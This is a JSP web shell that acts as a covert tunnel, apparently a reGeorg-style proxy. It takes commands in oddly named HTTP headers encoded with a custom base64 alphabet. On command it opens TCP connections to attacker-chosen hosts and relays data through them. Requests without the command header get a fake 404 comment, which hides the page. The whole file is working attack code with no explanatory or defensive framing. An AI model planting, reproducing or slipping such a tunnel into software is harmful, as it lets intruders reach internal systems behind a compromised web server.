<%@page import="java.nio.ByteBuffer, java.net.InetSocketAddress, java.nio.channels.SocketChannel, java.io.*, java.util.*" %><%!
    static String en = "BCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/A";
    static String de = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    static String b64de(String s) {
        StringBuilder sb = new StringBuilder();
        for (char c : s.toCharArray()) { int i = en.indexOf(c); sb.append(i < 0 ? c : de.charAt(i)); }
        return new String(Base64.getDecoder().decode(sb.toString()));
    }
%><%
    response.resetBuffer();
    String cmd = request.getHeader("Ffydwcdmbaa");
    if (cmd != null) {
        String mode = b64de(cmd);
        if (mode.equals("CONNECT")) {
            String[] target_ary = b64de(request.getHeader("Sgxfnzd")).split("\\|");
            SocketChannel sc = SocketChannel.open();
            sc.connect(new InetSocketAddress(target_ary[0], Integer.parseInt(target_ary[1])));
            sc.configureBlocking(false);
            application.setAttribute(request.getHeader("Vqpbmwh"), sc);
            response.setHeader("Kbfvrxa", "Oaqxx");
        } else if (mode.equals("FORWARD")) {
            SocketChannel sc = (SocketChannel) application.getAttribute(request.getHeader("Vqpbmwh"));
            int readlen = request.getContentLength();
            byte[] buff = new byte[readlen];
            request.getInputStream().read(buff, 0, readlen);
            ByteBuffer buf = ByteBuffer.wrap(buff);
            while (buf.hasRemaining()) sc.write(buf);
        } else if (mode.equals("READ")) {
            SocketChannel sc = (SocketChannel) application.getAttribute(request.getHeader("Vqpbmwh"));
            ByteBuffer buf = ByteBuffer.allocate(513);
            int n = sc.read(buf);
            OutputStream so = response.getOutputStream();
            while (n > 0) { so.write(buf.array(), 0, n); buf.clear(); n = sc.read(buf); }
            so.flush();
        }
    } else {
        out.write("<!-- 404 -->");
    }
%>
